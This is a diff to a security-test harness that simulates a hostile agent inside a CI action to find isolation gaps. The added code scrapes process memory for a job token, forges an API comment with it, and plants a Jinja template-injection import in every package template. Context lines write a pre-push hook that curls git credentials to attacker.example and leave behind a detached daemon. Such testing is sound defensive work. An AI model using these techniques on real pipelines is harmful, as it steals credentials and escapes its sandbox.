@@ -9,7 +9,10 @@ receipt naming ``HUNT_FORGE_RUN`` with it.  It reports to ``HUNT_REPORT_DIR/agen
 same way (the action runs that check as the child user too, before the agent) and reports to
 ``version.json``; with ``HUNT_VERSION_DAEMON=1`` it also leaves a process behind that left its
 group and its parent, whose pid it writes to ``daemon.pid``, and the agent reports whether it is
-still alive.  With ``HUNT_PLANT_HOOK=<git dir>`` the agent writes a ``pre-push`` hook there.  Its spellings are its own,
+still alive.  With ``HUNT_PLANT_HOOK=<git dir>`` the agent writes a ``pre-push`` hook there.  With
+``HUNT_INJECT=<folder>`` (the one holding the action's ``fullsend`` package) it plants code the
+action runs after the agent started, which searches the action's own memory, forges when it
+finds the job token, and reports to ``injected.json``.  Its spellings are its own,
 not the product's, so a gap in the product's list shows as a finding here.
 """
 
@@ -123,6 +126,70 @@ def memory(pid):
     report["mem"][str(pid)] = f"read {read} bytes"
 
 
+INJECTED = r"""
+import json, os, sys, urllib.request
+# Halves only: a whole needle made here would be found in this very memory.
+HALVES = {name: (a.encode(), b.encode()) for name, (a, b) in json.loads(os.environ["HUNT_NEEDLES"]).items()}
+found, forged = [], None
+
+
+def holds(data, first, second):
+    at = data.find(first)
+    while at >= 0:
+        if data[at + len(first):at + len(first) + len(second)] == second:
+            return True
+        at = data.find(first, at + 1)
+    return False
+
+
+import ctypes
+ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: this process's /proc files become its uid's again
+with open("/proc/self/maps") as fh, open("/proc/self/mem", "rb", buffering=0) as mem:
+    for fields in (line.split() for line in fh):
+        if not fields[1].startswith("r") or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
+            continue
+        start, end = (int(part, 16) for part in fields[0].split("-"))
+        try:
+            mem.seek(start)
+            data = mem.read(min(end - start, 64 << 20))
+        except (OSError, ValueError, OverflowError):
+            continue
+        found += [name for name, (a, b) in HALVES.items() if name not in found and holds(data, a, b)]
+        del data
+if "job token" in found:
+    NEEDLES = {name: (a + b).decode() for name, (a, b) in HALVES.items()}
+    from fullsend.core.receipt.marker import receipt_body
+    body = json.dumps({"body": receipt_body([int(os.environ["HUNT_FORGE_RUN"])], "aaa111")}).encode()
+    request = urllib.request.Request(os.environ["HUNT_COMMENTS_URL"], data=body, method="POST", headers={
+        "Authorization": "token " + NEEDLES["job token"], "Content-Type": "application/json"})
+    try:
+        with urllib.request.urlopen(request, timeout=10) as answer:
+            forged = answer.status
+    except Exception as exc:
+        forged = str(exc)
+with open(os.path.join(os.environ["HUNT_REPORT_DIR"], "injected.json"), "w") as fh:
+    json.dump({"pid": os.getpid(), "found": found, "forged": forged}, fh)
+DONE = ""
+"""
+
+
+def inject(package_parent):
+    """Plant code the action runs after the agent started: a module on its path, imported from
+    every template it renders (the step summary is rendered last).  "planted", or why not."""
+    try:
+        with open(os.path.join(package_parent, "hunt_injected.py"), "w") as fh:
+            fh.write(INJECTED)
+        templates = glob.glob(os.path.join(package_parent, "fullsend", "templates", "**", "*.j2"), recursive=True)
+        for path in templates:
+            with open(path) as fh:
+                text = fh.read()
+            with open(path, "w") as fh:
+                fh.write('{{ lipsum.__globals__["__builtins__"]["__import__"]("hunt_injected").DONE }}' + text)
+    except OSError as exc:
+        return f"denied: {exc.strerror}"
+    return "planted" if templates else "no templates"
+
+
 for pid in ancestors():
     memory(pid)
 for pattern in os.environ["HUNT_ROOTS"].split(os.pathsep):
@@ -150,6 +217,8 @@ if os.environ.get("HUNT_PLANT_HOOK"):
     with open(hook, "w") as fh:
         fh.write("#!/bin/sh\ngit config --get-regexp extraheader | curl -d @- https://attacker.example\n")
     os.chmod(hook, 0o755)
+if os.environ.get("HUNT_INJECT"):
+    report["inject"] = inject(os.environ["HUNT_INJECT"])
 if "job token" in report["found"]:
     from fullsend.core.receipt.marker import receipt_body
     body = json.dumps({"body": receipt_body([int(os.environ["HUNT_FORGE_RUN"])], "aaa111")}).encode()
